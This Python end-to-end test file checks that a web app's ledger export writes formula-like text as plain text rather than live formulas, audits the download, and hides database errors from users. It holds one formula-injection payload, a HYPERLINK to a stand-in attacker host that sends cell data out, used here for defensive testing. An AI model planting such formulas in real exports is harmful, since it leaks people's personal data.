"""Real browser (issue 18): a table of personal data has no CSV download in its toolbar (that CSV
would write a formula name as a live formula and is not audited); the app's own download of the
same table is an xlsx whose formula-like text stays text, and the download is in the audit log.
Saves yixian-screenshots/harden-ledger-toolbar.png."""
from __future__ import annotations

import io
import json
import sqlite3
from pathlib import Path

import openpyxl
import pytest

from tests.e2e.conftest import SHOTS, login

pytestmark = pytest.mark.e2e

FORMULA = '=HYPERLINK("http://evil.example/?d="&C4,"点击查看")'


def _record_formula_entry(app_server, monkeypatch) -> str:
    """A ledger entry of the demo cadre whose summary is a formula (the importer accepts it as text)."""
    from services import compliance_view as cv
    from services import ledger
    from services.db import reset_engines
    from tests.fixtures_app import demo_user

    _, env = app_server
    monkeypatch.delenv("DATABASE_URL", raising=False)
    monkeypatch.setenv("YIXIAN_DB_PATH", env["YIXIAN_DB_PATH"])
    reset_engines()
    me = demo_user("cadre")
    day = cv.default_as_of(cv.load_inputs())
    chk = ledger.check_activity(me, {"cadre_id": me.cadre_id, "date": day, "type": "face_to_face", "venue": "食堂",
                                     "students": 5, "summary": FORMULA})
    assert chk.ok, chk.problems_zh
    ledger.record_activity(me, chk)
    return env["YIXIAN_DB_PATH"]


def test_ledger_table_has_no_toolbar_csv_and_our_download_is_text(app_server, page, monkeypatch):
    from playwright.sync_api import expect

    db = _record_formula_entry(app_server, monkeypatch)
    base, _ = app_server
    login(page, base, "cadre")
    page.get_by_test_id("stSidebarNav").get_by_text("工作台账", exact=True).click()
    table = page.get_by_test_id("stDataFrame").first
    table.wait_for()
    table.hover()
    # the toolbar shows on hover (its search is there: this test sees the toolbar) ...
    expect(page.get_by_role("button", name="Search").first).to_be_visible()
    # ... without a CSV download on any table of the page
    expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / "harden-ledger-toolbar.png"))

    con = sqlite3.connect(db)      # the server is shared by the session's e2e tests: only entries after this one
    try:
        seen = con.execute("select coalesce(max(id), 0) from audit_log").fetchone()[0]
    finally:
        con.close()
    with page.expect_download() as dl:
        page.get_by_role("button", name="下载本表（xlsx）").click()
    ws = openpyxl.load_workbook(io.BytesIO(Path(dl.value.path()).read_bytes())).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(c.value == FORMULA for c in cells), "the formula-named entry is in the file, as text"
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula in the downloaded table"

    con = sqlite3.connect(db)
    try:
        for _ in range(50):                  # the click's audit entry lands with the rerun it triggers
            rows = con.execute("select actor, entity, after from audit_log where action = 'download' and id > ?",
                               (seen,)).fetchall()
            if rows:
                break
            page.wait_for_timeout(200)
    finally:
        con.close()
    assert [(a, e) for a, e, _ in rows] == [("cadre", "ledger_table")] and json.loads(rows[0][2])["rows"] > 0


def test_a_database_error_in_the_browser_is_one_sentence_and_an_id(app_server, page):
    """The rounds table goes missing under the running app (a broken database): the admin reads
    one sentence with an error id, never SQL or a trace; the server log has the trace under that id."""
    import re

    base, env = app_server
    db = env["YIXIAN_DB_PATH"]
    server_log = Path(db).parent / "streamlit.log"
    con = sqlite3.connect(db)
    con.execute("alter table assignment_rounds rename to assignment_rounds_hidden")
    con.commit()
    try:
        login(page, base, "admin")       # the login is a write: a new store version, so nothing cached is served
        page.goto(f"{base}/rounds")
        alert = page.get_by_test_id("stAlert").filter(has_text="错误编号")
        alert.wait_for()
        text = page.get_by_test_id("stMain").inner_text()
        SHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SHOTS / "harden-database-error.png"))
    finally:
        con.execute("alter table assignment_rounds_hidden rename to assignment_rounds")
        con.commit()
        con.close()
    [incident] = re.findall(r"错误编号 ([0-9a-f]{8})", alert.inner_text())
    assert page.get_by_test_id("stException").count() == 0
    for leak in ("SELECT", "no such table", "Traceback", "OperationalError", "assignment_rounds"):
        assert leak not in text, f"{leak!r} shown to the user"
    log = server_log.read_text(encoding="utf-8", errors="replace")
    assert f"unexpected error {incident}" in log
    after = log[log.index(f"unexpected error {incident}"):]
    assert "Traceback" in after and "no such table" in after[:20000]
